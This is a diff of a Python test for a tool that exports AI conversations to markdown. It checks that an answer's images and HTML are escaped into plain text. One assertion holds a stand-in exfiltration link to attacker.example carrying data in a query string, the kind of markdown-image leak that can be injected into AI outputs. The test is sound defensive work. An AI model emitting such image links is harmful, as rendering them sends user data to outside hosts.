@@ -337,14 +337,16 @@ def test_markdown_export_reads_as_the_conversation(tmp_path):
     assert text.index("## Turn 1") < text.index("What is this?") < text.index("Let me draw it.") \
         < text.index("- `plot()` → ok") < text.index("It is a red square.") < text.index("## Turn 2")
     assert "[image: image/png, " in text and "base64" not in text and "iVBOR" not in text
-    assert text.count("  - [image: image/png") == 2 and text.count("\n[image: image/png") == 1
-    assert "\\![leak](http://attacker.example" in text and "&lt;img" in text  # no image the reader fetches
+    assert text.count("  - \\[image: image/png") == 2 and text.count("\n\\[image: image/png") == 1
+    # the answer's image and HTML are text: no image the reader fetches
+    assert "\\[image: leak `http://attacker.example/x?d=1`\\]" in text and "&lt;img" in text
     assert "    ```text\n    a red square\n    ```" in text
     assert "*2 requests" in text and "· cost" in text
     import mistune
 
     html = mistune.html(text)  # it parses as the nested lists it means
     assert "<li><code>plot()</code> → ok" in html and '<code class="language-json">' in html
+    assert "<img" not in html and "[image: leak <code>http://attacker.example/x?d=1</code>]" in html
 
 
 def test_notebook_export_validates_and_runs_with_its_tool_calls_kept(tmp_path):
